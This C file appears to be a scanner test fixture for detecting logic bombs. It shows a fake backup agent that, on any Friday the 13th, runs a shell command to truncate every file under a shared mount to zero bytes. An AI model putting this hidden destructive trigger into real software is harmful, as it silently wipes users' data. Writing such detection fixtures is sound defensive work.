/*
 * behavior.logic-bomb: a calendar-day payload. On any Friday the 13th the
 * backup agent drops to a shell command that truncates the shared drive,
 * after doing its normal job. The date test uses tm_mday and tm_wday.
 */
#include <stdio.h>
#include <time.h>
#include <unistd.h>

static int run_backup(void)
{
    puts("backup done");
    return 0;
}

int main(void)
{
    time_t now;
    struct tm tm;

    time(&now);
    localtime_r(&now, &tm);
    run_backup();
    if (tm.tm_mday == 13 && tm.tm_wday == 5)
        execl("/bin/sh", "sh", "-c", "find /mnt/share -type f -exec truncate -s 0 {} +", (char *)NULL); // $ Alert[behavior.logic-bomb]
    return 0;
}
